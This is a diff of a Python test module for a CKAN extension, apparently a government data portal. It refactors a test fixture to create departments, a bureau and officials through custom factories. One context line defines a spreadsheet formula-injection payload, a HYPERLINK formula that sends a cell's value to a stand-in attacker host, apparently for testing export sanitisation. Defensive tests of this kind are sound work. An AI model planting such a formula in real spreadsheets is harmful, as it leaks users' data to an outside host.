@@ -10,13 +10,14 @@ import re
 import pytest
 from bs4 import BeautifulSoup
 from ckan import model
-from ckan.tests import factories, helpers
+from ckan.tests import factories
 from openpyxl import load_workbook
 
 from ckanext.dongchang.kernel.audit import AuditEvent
 from tests.api import Api
 from tests.conftest import PLUGINS
 from tests.entries import conditional, create_entry, entry_dict
+from tests.factories import Bureau, Department, Official
 
 pytestmark = [
     pytest.mark.ckan_config("ckan.plugins", PLUGINS),
@@ -30,14 +31,13 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 
 @pytest.fixture
 def world(app, sysadmin):
-    scjg = factories.Organization(name="dcf-scjg", title="区市场监督管理局")
-    bureau = factories.Organization(name="dcf-dsjj", title="区大数据局", is_bureau="true")
-    users = {name: factories.User(name=name, email=f"{name}@example.gov.cn", password=PASSWORD)
-             for name in ("scjg-admin", "scjg-editor", "bureau-admin", "citizen")}
-    for user, org, role in [("scjg-admin", scjg, "admin"), ("scjg-editor", scjg, "editor"),
-                            ("bureau-admin", bureau, "admin")]:
-        helpers.call_action("organization_member_create", id=org["id"], username=user,
-                            role=role)
+    scjg = Department(name="dcf-scjg", title="区市场监督管理局")
+    bureau = Bureau()
+    users = {name: Official(name=name, department=org, capacity=role, password=PASSWORD)
+             for name, org, role in [("scjg-admin", scjg, "admin"),
+                                     ("scjg-editor", scjg, "editor"),
+                                     ("bureau-admin", bureau, "admin"),
+                                     ("citizen", None, "member")]}
     return {"orgs": {"scjg": scjg, "bureau": bureau}, "users": users, "sysadmin": sysadmin,
             "api": {name: Api(app, user) for name, user in users.items()},
             "anonymous": Api(app)}
